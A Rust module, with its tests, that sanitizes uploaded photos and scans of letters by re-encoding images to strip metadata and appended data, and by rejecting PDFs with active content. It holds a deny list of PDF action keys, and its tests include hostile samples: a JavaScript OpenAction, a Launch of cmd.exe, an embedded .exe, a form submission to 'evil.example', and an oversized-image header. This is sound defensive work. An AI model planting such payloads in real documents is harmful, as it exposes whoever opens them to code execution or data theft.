//! Photos and scans of paper letters, made safe before they are stored.
//!
//! A page is judged by its bytes, never its file name. A JPEG or PNG is decoded — within
//! limits on its dimensions and on the memory decoding may take, so that a small file that
//! claims to be a gigapixel image is refused instead of filling the machine — turned upright
//! by its EXIF orientation, and encoded again: what is stored is only its pixels, without
//! the camera's metadata (the place a photo was taken, the phone's serial number) and
//! without anything hidden after the image (a polyglot file). A PDF cannot be redrawn that
//! way; it is parsed (object streams included) and refused when it can act when opened:
//! JavaScript, an open action, automatic actions, launching a program, submitting or
//! importing a form, embedded files or rich media.

use std::io::Cursor;

use image::{DynamicImage, ImageDecoder, ImageFormat, ImageReader, Limits};
use lopdf::{Document, Object};

use crate::events::PaperError;

pub use crate::events::MAX_PAGE_BYTES;
/// Largest side of a page image, in pixels (a 600 dpi scan of A3 is about 7,000).
const MAX_SIDE: u32 = 12_000;
/// Most memory decoding one page may take.
const MAX_DECODE_BYTES: u64 = 512 * 1024 * 1024;
/// Quality of a JPEG encoded again: a handwritten page stays legible.
const JPEG_QUALITY: u8 = 88;

/// A page as it will be stored: its type and its bytes.
#[derive(Debug)]
pub struct SafePage {
    pub content_type: &'static str,
    pub bytes: Vec<u8>,
}

/// Checks a page and gives back what may be stored (see the module's description).
pub fn safe_page(bytes: &[u8]) -> Result<SafePage, PaperError> {
    if bytes.len() > MAX_PAGE_BYTES {
        return Err(PaperError::TooLarge);
    }
    match infer::get(bytes).map(|k| k.mime_type()) {
        Some("image/jpeg") => redraw(bytes, ImageFormat::Jpeg),
        Some("image/png") => redraw(bytes, ImageFormat::Png),
        Some("application/pdf") => {
            inert_pdf(bytes)?;
            Ok(SafePage {
                content_type: "application/pdf",
                bytes: bytes.to_vec(),
            })
        }
        _ => Err(PaperError::UnsupportedType),
    }
}

/// Decodes within the limits, turns the image upright and encodes its pixels again.
fn redraw(bytes: &[u8], format: ImageFormat) -> Result<SafePage, PaperError> {
    let mut reader = ImageReader::with_format(Cursor::new(bytes), format);
    let mut limits = Limits::default();
    limits.max_image_width = Some(MAX_SIDE);
    limits.max_image_height = Some(MAX_SIDE);
    limits.max_alloc = Some(MAX_DECODE_BYTES);
    reader.limits(limits);
    let mut decoder = reader.into_decoder().map_err(too_large_or_corrupt)?;
    let orientation = decoder.orientation().map_err(too_large_or_corrupt)?;
    let mut image = DynamicImage::from_decoder(decoder).map_err(too_large_or_corrupt)?;
    image.apply_orientation(orientation);
    let mut out = Cursor::new(Vec::new());
    let content_type = match format {
        ImageFormat::Png => {
            image
                .write_to(&mut out, ImageFormat::Png)
                .map_err(|_| PaperError::Corrupt)?;
            "image/png"
        }
        _ => {
            // JPEG has no alpha channel; a scan has nothing to lose by dropping one.
            let rgb = DynamicImage::ImageRgb8(image.to_rgb8());
            let encoder =
                image::codecs::jpeg::JpegEncoder::new_with_quality(&mut out, JPEG_QUALITY);
            rgb.write_with_encoder(encoder)
                .map_err(|_| PaperError::Corrupt)?;
            "image/jpeg"
        }
    };
    Ok(SafePage {
        content_type,
        bytes: out.into_inner(),
    })
}

fn too_large_or_corrupt(error: image::ImageError) -> PaperError {
    match error {
        image::ImageError::Limits(_) => PaperError::TooLarge,
        _ => PaperError::Corrupt,
    }
}

/// Dictionary keys through which a PDF acts by itself or carries other files.
const ACTIVE_KEYS: &[&[u8]] = &[
    b"JavaScript",
    b"JS",
    b"OpenAction",
    b"AA",
    b"Launch",
    b"EmbeddedFile",
    b"EmbeddedFiles",
    b"RichMedia",
    b"XFA",
];

/// Action types that run code, start programs or send data.
const ACTIVE_ACTIONS: &[&[u8]] = &[
    b"JavaScript",
    b"Launch",
    b"SubmitForm",
    b"ImportData",
    b"RichMediaExecute",
    b"GoToE",
];

/// Parses a PDF (names are decoded, object streams opened) and refuses one that can act.
fn inert_pdf(bytes: &[u8]) -> Result<(), PaperError> {
    let document = Document::load_mem(bytes).map_err(|_| PaperError::Corrupt)?;
    if document.is_encrypted() {
        // Its contents cannot be checked.
        return Err(PaperError::ActivePdf);
    }
    if document.objects.values().any(active) {
        return Err(PaperError::ActivePdf);
    }
    Ok(())
}

fn active(object: &Object) -> bool {
    match object {
        Object::Dictionary(dict) => dict.iter().any(|(key, value)| {
            ACTIVE_KEYS.contains(&key.as_slice())
                || (key.as_slice() == b"S"
                    && matches!(value, Object::Name(name) if ACTIVE_ACTIONS.contains(&name.as_slice())))
                || active(value)
        }),
        Object::Stream(stream) => active(&Object::Dictionary(stream.dict.clone())),
        Object::Array(items) => items.iter().any(active),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]

    use super::*;
    use image::{Rgb, RgbImage, Rgba, RgbaImage};

    fn contains(haystack: &[u8], needle: &[u8]) -> bool {
        haystack.windows(needle.len()).any(|w| w == needle)
    }

    fn jpeg() -> Vec<u8> {
        let image = RgbImage::from_fn(64, 48, |x, y| Rgb([(x * 4) as u8, (y * 5) as u8, 90]));
        let mut out = Cursor::new(Vec::new());
        image.write_to(&mut out, ImageFormat::Jpeg).unwrap();
        out.into_inner()
    }

    fn png() -> Vec<u8> {
        let image = RgbaImage::from_fn(40, 30, |x, _| Rgba([x as u8, 10, 200, 255]));
        let mut out = Cursor::new(Vec::new());
        image.write_to(&mut out, ImageFormat::Png).unwrap();
        out.into_inner()
    }

    /// A JPEG with an EXIF segment (APP1) right after SOI, holding a planted marker.
    fn jpeg_with_exif(marker: &[u8]) -> Vec<u8> {
        let plain = jpeg();
        let mut payload = b"Exif\0\0".to_vec();
        payload.extend_from_slice(marker);
        let length = u16::try_from(payload.len() + 2).unwrap().to_be_bytes();
        let mut out = plain[..2].to_vec();
        out.extend_from_slice(&[0xFF, 0xE1, length[0], length[1]]);
        out.extend_from_slice(&payload);
        out.extend_from_slice(&plain[2..]);
        out
    }

    /// A PNG with a text chunk inserted before IEND.
    fn png_with_text(text: &[u8]) -> Vec<u8> {
        let plain = png();
        let iend = plain.len() - 12;
        let mut chunk = (u32::try_from(text.len()).unwrap()).to_be_bytes().to_vec();
        chunk.extend_from_slice(b"tEXt");
        chunk.extend_from_slice(text);
        let crc = crc32(&chunk[4..]);
        chunk.extend_from_slice(&crc.to_be_bytes());
        let mut out = plain[..iend].to_vec();
        out.extend_from_slice(&chunk);
        out.extend_from_slice(&plain[iend..]);
        out
    }

    fn crc32(bytes: &[u8]) -> u32 {
        let mut crc = 0xFFFF_FFFFu32;
        for byte in bytes {
            crc ^= u32::from(*byte);
            for _ in 0..8 {
                crc = if crc & 1 == 1 {
                    (crc >> 1) ^ 0xEDB8_8320
                } else {
                    crc >> 1
                };
            }
        }
        !crc
    }

    fn pdf(extra_catalog: &str) -> Vec<u8> {
        // A one-page PDF whose catalog gets `extra_catalog`; offsets are not needed by the
        // parser, which rebuilds the table when it is wrong.
        let body = format!(
            "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R {extra_catalog} >>\nendobj\n\
             2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n\
             3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n"
        );
        let xref_at = body.len();
        format!(
            "{body}xref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n0000000074 00000 n \n0000000131 00000 n \n\
             trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n{xref_at}\n%%EOF\n"
        )
        .into_bytes()
    }

    #[test]
    fn a_photo_loses_its_metadata_and_what_hides_after_it() {
        let marker = b"GPS 44.95N 34.10E serial-XYZ-planted";
        let mut file = jpeg_with_exif(marker);
        file.extend_from_slice(b"<html><script>alert(1)</script></html>");
        assert!(contains(&file, marker));
        let safe = safe_page(&file).unwrap();
        assert_eq!(safe.content_type, "image/jpeg");
        assert!(!contains(&safe.bytes, marker), "the EXIF segment is gone");
        assert!(
            !contains(&safe.bytes, b"<script>"),
            "nothing follows the image"
        );
        let again = image::load_from_memory(&safe.bytes).unwrap();
        assert_eq!((again.width(), again.height()), (64, 48));
    }

    #[test]
    fn a_png_keeps_its_pixels_and_drops_its_text() {
        let file = png_with_text(b"Comment\0written at 12 Lenina St, flat 4");
        assert!(
            image::load_from_memory(&file).is_ok(),
            "the planted file is valid"
        );
        let safe = safe_page(&file).unwrap();
        assert_eq!(safe.content_type, "image/png");
        assert!(!contains(&safe.bytes, b"Lenina"));
        let before = image::load_from_memory(&file).unwrap().to_rgba8();
        let after = image::load_from_memory(&safe.bytes).unwrap().to_rgba8();
        assert_eq!(before, after, "lossless: the same pixels");
    }

    #[test]
    fn an_image_that_claims_enormous_dimensions_is_refused() {
        // A PNG header announcing 100,000 x 100,000 pixels, with almost no data after it.
        let mut file = png();
        file[16..20].copy_from_slice(&100_000u32.to_be_bytes());
        file[20..24].copy_from_slice(&100_000u32.to_be_bytes());
        let crc = crc32(&file[12..29]);
        file[29..33].copy_from_slice(&crc.to_be_bytes());
        assert!(matches!(safe_page(&file), Err(PaperError::TooLarge)));
    }

    #[test]
    fn damaged_and_foreign_files_are_refused() {
        let whole = jpeg();
        assert!(matches!(
            safe_page(&whole[..whole.len() / 2]),
            Err(PaperError::Corrupt)
        ));
        assert!(matches!(
            safe_page(b"GIF89a not a page"),
            Err(PaperError::UnsupportedType)
        ));
        assert!(matches!(
            safe_page(b"<html>hello</html>"),
            Err(PaperError::UnsupportedType)
        ));
        let huge = vec![0u8; MAX_PAGE_BYTES + 1];
        assert!(matches!(safe_page(&huge), Err(PaperError::TooLarge)));
    }

    #[test]
    fn truncated_pages_are_refused() {
        let whole = png();
        assert!(matches!(safe_page(&whole[..40]), Err(PaperError::Corrupt)));
        assert!(matches!(
            safe_page(&[0xFF, 0xD8, 0xFF, 0xE0, 0x00]),
            Err(PaperError::Corrupt)
        ));
        assert!(matches!(
            safe_page(b"%PDF-1.4\n1 0 obj\n<<>>\n"),
            Err(PaperError::Corrupt)
        ));
    }

    #[test]
    fn a_plain_pdf_is_kept_and_an_active_one_is_refused() {
        let plain = pdf("");
        let safe = safe_page(&plain).unwrap();
        assert_eq!(safe.content_type, "application/pdf");
        assert_eq!(safe.bytes, plain);
        for catalog in [
            "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
            // A name spelled with an escape is the same name to a reader.
            "/Names << /J#61vaScript << /Names [(x) 3 0 R] >> >>",
            "/Outlines << /First << /A << /S /J#61vaScript >> >> >>",
            "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
            "/AA << /O << /S /Launch /F (cmd.exe) >> >>",
            "/Outlines << /First << /A << /S /SubmitForm /F (https://evil.example) >> >> >>",
        ] {
            assert!(
                matches!(safe_page(&pdf(catalog)), Err(PaperError::ActivePdf)),
                "{catalog}"
            );
        }
    }
}
